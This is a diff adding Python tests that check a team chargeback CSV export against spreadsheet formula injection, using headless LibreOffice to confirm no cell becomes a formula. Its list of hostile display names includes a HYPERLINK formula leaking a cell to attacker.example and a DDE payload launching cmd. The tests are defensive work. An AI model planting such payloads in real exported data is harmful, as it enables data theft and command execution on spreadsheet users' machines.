@@ -531,3 +531,84 @@ def test_stacks_never_writes_into_the_output_it_compares_against(project):
     assert result.returncode == 2, result.stderr
     assert "--changed-since compares against" in result.stderr and "--out cdktf.new" in result.stderr
     assert _snapshot(out) == before
+
+
+# --- what a spreadsheet and a Markdown renderer make of the outputs -----------------------------
+
+#: Display names as a hostile spec author would write them (OWASP's CSV-injection examples).
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile_chargeback(project: Path, output_format: str) -> str:
+    data = yaml.safe_load((project / "teams.yaml").read_text())
+    for team, name in zip(data["teams"], HOSTILE_NAMES, strict=False):
+        team["display_name"] = name
+    (project / "teams.yaml").write_text(yaml.safe_dump(data))
+    usage = _usage_report(project)
+    result = run(
+        "chargeback", str(project / "teams.yaml"), "--usage", str(usage), "--cost", "1000", "--format", output_format
+    )
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+def test_the_chargeback_csv_opened_in_a_spreadsheet_holds_no_formula(project, tmp_path):
+    """LibreOffice Calc (Debian's, headless) imports the CSV with formula evaluation on, as a
+    spreadsheet user's double-click does, and writes it as flat ODS: no cell is a formula, every
+    display name reads as the text it is, amounts stay numbers."""
+    import shutil
+    import xml.etree.ElementTree as ElementTree
+
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        if os.environ.get("CI"):
+            pytest.fail("LibreOffice (soffice) must be installed under CI (.ci/run installs it)")
+        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
+    csv_path = tmp_path / "chargeback.csv"
+    csv_path.write_text(_hostile_chargeback(project, "csv"))
+    # Filter options: comma, double quote, UTF-8, from line 1, ..., token 13 "evaluate formulas" on.
+    converted = subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
+            "--headless",
+            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
+            "--convert-to",
+            "fods",
+            "--outdir",
+            str(tmp_path),
+            str(csv_path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    assert converted.returncode == 0, converted.stderr
+    sheet = ElementTree.parse(tmp_path / "chargeback.fods")
+    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+    cells = list(sheet.iter(f"{{{table}}}table-cell"))
+    assert cells, "LibreOffice read no cell"
+    assert not [c for c in cells if c.get(f"{{{table}}}formula")], "a cell became a formula"
+    shown = ["".join(p.itertext()) for c in cells for p in c.iter(f"{{{text}}}p")]
+    for name in HOSTILE_NAMES[:3]:
+        assert f"'{name}" in shown, (name, shown[:20])
+    amounts = [c for c in cells if c.get(f"{{{office}}}value-type") == "float"]
+    assert amounts, "the amounts are no longer numbers"
+
+
+def test_a_spreadsheet_cell_is_neutralised_only_when_it_would_start_a_formula():
+    from hyperpod_teams.review.document import spreadsheet_text
+
+    assert [spreadsheet_text(n)[0] for n in HOSTILE_NAMES] == ["'"] * len(HOSTILE_NAMES)
+    assert spreadsheet_text("Natural language") == "Natural language"
+    assert spreadsheet_text("nlp = team") == "nlp = team"
